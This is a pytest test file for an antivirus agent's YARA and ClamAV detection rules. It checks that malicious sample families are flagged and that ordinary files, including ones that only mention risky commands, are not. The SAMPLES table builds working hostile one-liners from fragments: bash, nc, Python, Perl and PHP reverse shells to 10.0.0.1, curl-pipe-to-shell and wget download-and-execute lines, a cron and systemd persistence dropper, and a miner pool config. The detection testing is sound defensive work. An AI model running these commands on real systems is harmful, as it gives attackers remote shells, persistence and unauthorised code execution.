"""The bundled rules find what scripts would do, and nothing in a corpus of ordinary files.

Malicious samples are assembled at run time from fragments, so no file of this project holds one.
"""

import os
import stat
import subprocess
import sys

from conftest import EICAR, RESOURCES, scan, wait_for, write

TCP = "/dev/" + "tcp"
SH = "/bin/" + "sh"
WALLET = "4" + "A" + "".join("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"[i % 58] for i in range(93))
POOL = "stratum" + "+tcp://pool.example.org:3333"

SAMPLES = {
    "devtcp.sh": ("Reverse_Shell", f"#!/bin/bash\nbash -i >& {TCP}/10.0.0.1/4444 0>&1\n"),
    "exec-fd.sh": ("Reverse_Shell", f"exec 5<>{TCP}/10.0.0.1/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done\n"),
    "nc-first.sh": ("Reverse_Shell", f"#!/bin/sh\nnc -e {SH} 10.0.0.1 4444\n"),
    "nc-last.sh": ("Reverse_Shell", f"ncat 10.0.0.1 4444 -e {SH}\n"),
    "fifo.sh": ("Reverse_Shell", f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|{SH} -i 2>&1|nc 10.0.0.1 1234 >/tmp/f\n"),
    "py-oneliner.sh": ("Reverse_Shell", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\","
                       "4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"" + SH + "\")'\n"),
    "perl.sh": ("Reverse_Shell", "perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,"
                "getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");"
                "open(STDOUT,\">&S\");exec(\"" + SH + " -i\");};'\n"),
    "php.sh": ("Reverse_Shell", "php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"" + SH + " -i <&3 >&3 2>&3\");'\n"),
    "shell.py": ("Reverse_Shell_Program", "import socket, os, pty\ns = socket.socket()\ns.connect((\"10.0.0.1\", "
                 "4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn(\"" + SH + "\")\n"),
    "install.sh": ("Download_And_Execute", "#!/bin/sh\ncurl -fsSL http://10.0.0.1/x.sh | sh\n"),
    "fetch.sh": ("Download_And_Execute", "#!/bin/sh\nwget http://10.0.0.1/a -O /tmp/.a\nchmod +x /tmp/.a\n/tmp/.a &\n"),
    "config.json": ("Crypto_Miner_Config", '{\n "pools": [{"url": "' + POOL + '", "user": "' + WALLET + '"}]\n}\n'),
    "dropper.sh": ("Persistence_Dropper", "#!/bin/sh\n(crontab -l; echo \"*/5 * * * * curl -fsSL http://10.0.0.1/s"
                   " | sh\") | crontab -\n"),
    "eicar-late.txt": ("EICAR-Test-File", "x" * 900 + EICAR.decode() + "tail"),
    # No "#!" line, and a variable exported as scripts do (JavaScript exports too).
    "exported.sh": ("Download_And_Execute", "set -e\nexport PATH=/usr/bin:$PATH\ncurl -fsSL http://10.0.0.1/i | bash\n"),
    # A user service and an autostart entry whose command downloads and runs a script.
    "upd.service": ("Download_And_Execute", "[Unit]\nDescription=update\n\n[Service]\nExec" + "Start=/bin/sh -c "
                    "\"curl -fsSL http://10.0.0.1/u | sh\"\n\n[Install]\nWantedBy=default.target\n"),
    "upd.desktop": ("Download_And_Execute", "[Desktop Entry]\nType=Application\nName=Update\n"
                    "Exec=sh -c 'wget -qO- http://10.0.0.1/u | sh'\n"),
    # No "#!" line, and a unit file's section and keys in its here-document.
    "unit-dropper": ("Persistence_Dropper", "cat > ~/.config/systemd/user/upd.service <<EOF\n[Unit]\n"
                     "Description=update\n[Service]\nExec" + "Start=/tmp/.u\nEOF\n"
                     "systemctl --user enable --now upd.service\n"),
}

# Files that mention what the rules look for without doing it.
MENTIONS = {
    "pool-note.txt": f"Remember the pool: {POOL} (hash rate was fine)\n",
    "test_shell.py": "import subprocess\n\n\ndef test_reverse_shell_is_flagged():\n"
                     f"    line = \"bash -i >& {TCP}/10.0.0.1/4444 0>&1\"\n    assert line\n",
    "INSTALL.md": "# Install\n\n```sh\ncurl -fsSL https://example.org/install.sh | sh\n```\n",
    "warn.sh": f"#!/bin/sh\necho \"never run nc -e {SH} from a script you did not write\"\n",
    "probe.sh": f"#!/bin/bash\nexec 3<>{TCP}/example.org/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n",
    # Install lines as READMEs, notes, CI workflows and package manifests quote them.
    "README": "Install it with:\n\n    curl -fsSL https://example.org/install.sh | sh\n\nThen run `tool`.\n",
    "notes.md": "# Tools\n\nInstall: `curl -fsSL https://example.org/install.sh | sh`\n",
    "ci.yml": "name: ci\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n"
              "          curl -fsSL https://sh.rustup.rs | sh -s -- -y\n          cargo test\n",
    "package.json": '{\n  "name": "web",\n  "scripts": {"setup": "curl -fsSL https://example.org/i | bash"}\n}\n',
    # A shell's history: the install line a user once typed.
    ".bash_history": "ls\ncd projects\ncurl -fsSL https://get.docker.com | sh\ngit status\n",
    # An export of events, a patch to an installer: the command is a field, a changed line.
    "events.csv": "\ufeffid,time,source,message,detail\r\n1,2026-12-09 01:00:00,process,suspicious process,"
                  "\"curl -fsSL http://10.0.0.1/x.sh | sh\"\r\n",
    "fix.diff": "--- a/install.py\n+++ b/install.py\n@@ -1 +1 @@\n-    run(\"wget -qO- http://x/a | sh\")\n"
                "+    run(\"curl -fsSL http://x/a | sh\")\n",
    # A terminal's listings kept as text: a test's numbered lines, search results.
    "listing.txt": "     1\timport subprocess\n     2\t\n     3\tdef test_install():\n"
                   "     4\t    subprocess.run(\"curl -fsSL http://10.0.0.1/x.sh | sh\", shell=True)\n",
    "hits.txt": "fetch.sh:2:wget http://10.0.0.1/a -O /tmp/.a\nfetch.sh:3:chmod +x /tmp/.a\nfetch.sh-4-/tmp/.a &\n"
                "tests/install_test.py:12:    run(\"curl -fsSL http://10.0.0.1/x.sh | sh\")\n",
}


def test_each_family_is_found_by_its_rule_in_a_real_scan(agent):
    agent.data("settings.set", values={"auto_quarantine": False, "realtime_enabled": False})
    for name, (_, text) in SAMPLES.items():
        write(os.path.join(agent.downloads, name), text.encode())
    for name, text in MENTIONS.items():
        write(os.path.join(agent.downloads, "mentions", name), text.encode())
    scan(agent)
    found = {os.path.basename(t["path"]): t["signature"] for t in agent.data("threats")}
    assert found == {name: rule for name, (rule, _) in SAMPLES.items()}


def corpus(sample_every=3):
    """This project's sources, Python's standard library and a deterministic sample of /usr/share/doc."""
    project = os.path.dirname(RESOURCES)
    tracked = subprocess.run(["git", "-C", project, "ls-files", "-z"], capture_output=True).stdout.split(b"\0")
    for name in tracked:
        if name:
            yield os.path.join(os.fsencode(project), name)
    stdlib = os.path.dirname(os.__file__)
    for root, dirs, files in os.walk(stdlib):
        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", "__pycache__")]
        for f in files:
            yield os.path.join(root, f)
    docs = sorted(os.path.join(root, f) for root, _, files in os.walk("/usr/share/doc") for f in files)
    yield from docs[::sample_every]


def test_benign_corpus_gives_no_detection(tmp_path):
    """Both engines over ordinary files: zero detections (a real private clamd, the bundled rules)."""
    sys.path.insert(0, RESOURCES)
    from agent.clamav import ClamavEngine
    from agent.engines import YaraEngine, read_window

    mentions = tmp_path / "mentions"
    for name, text in MENTIONS.items():
        write(str(mentions / name), text.encode())
    data_dir = str(tmp_path / "data")
    clamav = ClamavEngine(data_dir, system_db_dir="")
    yara = YaraEngine(os.path.join(data_dir, "rules"))
    clamav.start()
    try:
        wait_for(lambda: clamav.private.ready.is_set(), 60, what="the private clamd")
        hits, files, batch = [], 0, []
        paths = [os.path.join(str(mentions), n) for n in MENTIONS] + list(corpus())
        for i, path in enumerate(paths):
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC)
                if stat.S_ISREG(os.fstat(fd).st_mode):
                    batch.append((fd, path))
                else:
                    os.close(fd)
            except OSError:
                pass  # a link, or a file that went away
            if len(batch) < 32 and i + 1 < len(paths):
                continue
            fds = [fd for fd, _ in batch]
            verdicts = clamav.finish(fds, clamav.begin(fds))  # in batches, as a scan does
            for (fd, path), (found, checked) in zip(batch, verdicts):
                assert checked, path
                found += yara.check(read_window(fd, os.fstat(fd).st_size, 8 << 20), path)
                hits += [(path, d.engine, d.signature) for d in found]
                files += 1
                os.close(fd)
            batch = []
        assert files > 2000 and hits == []
    finally:
        clamav.stop()
